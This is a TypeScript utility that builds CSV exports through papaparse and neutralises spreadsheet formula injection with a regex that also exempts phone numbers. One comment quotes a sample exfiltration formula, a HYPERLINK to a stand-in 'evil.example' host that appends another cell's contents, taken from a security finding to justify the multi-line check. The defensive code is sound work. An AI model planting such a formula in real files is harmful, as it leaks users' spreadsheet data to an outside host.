/** A CSV cell: text, a number (money in dollars, quantities), or nothing (an empty cell). */
export type CsvValue = string | number | null | undefined;

/** One column of an export: its heading and how a row gives its value. */
export interface CsvColumn<T> {
  header: string;
  value: (row: T) => CsvValue;
}

/** The byte order mark that tells Excel the file is UTF-8, so accents survive. */
export const UTF8_BOM = '\uFEFF';

/**
 * A phone number as people write one: a `+`, then digits, spaces and `( ) - . /` only, with at
 * least one digit (`+49 40 123456`, `+1 (555) 010-0100`). A spreadsheet cannot run it as a
 * formula that does harm (no function, no reference, no second operator to chain one), so it is
 * exported as written rather than with a visible `'` (usability review 2026-11-26, defect 16).
 */
export const PHONE_NUMBER = /^\+[\d ()./-]*\d[\d ()./-]*$/;

/**
 * A text cell a spreadsheet could run as a formula: one of whose lines starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return, unless the whole cell is a phone number (`PHONE_NUMBER`).
 * Every line counts, not only the first: papaparse's own `escapeFormulae: true` tests
 * `/^[=+\-@\t\r].*$/`, whose `.` stops at a line break, so a value like
 * `=HYPERLINK("https://evil.example/?"&C2,\n"Eve")` (a customer's name, address or PO number)
 * passed unescaped (security report 2026-11-26, finding 5).
 */
export const FORMULA_CELL = new RegExp(
  `^(?!${PHONE_NUMBER.source.slice(1, -1)}$)[\\s\\S]*?(?:^|[\\n\\r])[=+\\-@\\t\\r]`,
);

/**
 * A CSV file's text: the headings, then one line per row, with a BOM in front. Papaparse does the
 * quoting (a cell with a comma, a quote or a new line is quoted, quotes doubled) and neutralises
 * formulas: a text cell any of whose lines starts with `=`, `+`, `-`, `@`, a tab or a carriage
 * return (`FORMULA_CELL`) gets a leading `'`, so a product named `=HYPERLINK(...)` is read as
 * text, never run by a spreadsheet. Numbers stay numbers (a negative amount is not a formula).
 * It is loaded on first use, so the pages that only show a list never carry it.
 */
export async function toCsv<T>(
  columns: readonly CsvColumn<T>[],
  rows: readonly T[],
): Promise<string> {
  const { unparse } = await import('papaparse');
  const text = unparse(
    {
      fields: columns.map((column) => column.header),
      data: rows.map((row) => columns.map((column) => column.value(row) ?? '')),
    },
    { escapeFormulae: FORMULA_CELL, newline: '\r\n' },
  );
  // Papaparse ends the headings of an empty list with a line break, and a last row without.
  return `${UTF8_BOM}${text}${text.endsWith('\r\n') ? '' : '\r\n'}`;
}
/**
 * An export's columns from the shared headings (`adminCsvColumns.orders`) and one value per
 * heading's key: the type makes sure no column is left without a value.
 */
export function csvColumns<T, K extends string>(
  headers: Readonly<Record<K, string>>,
  values: Record<K, (row: T) => CsvValue>,
): CsvColumn<T>[] {
  return (Object.keys(headers) as K[]).map((key) => ({ header: headers[key], value: values[key] }));
}
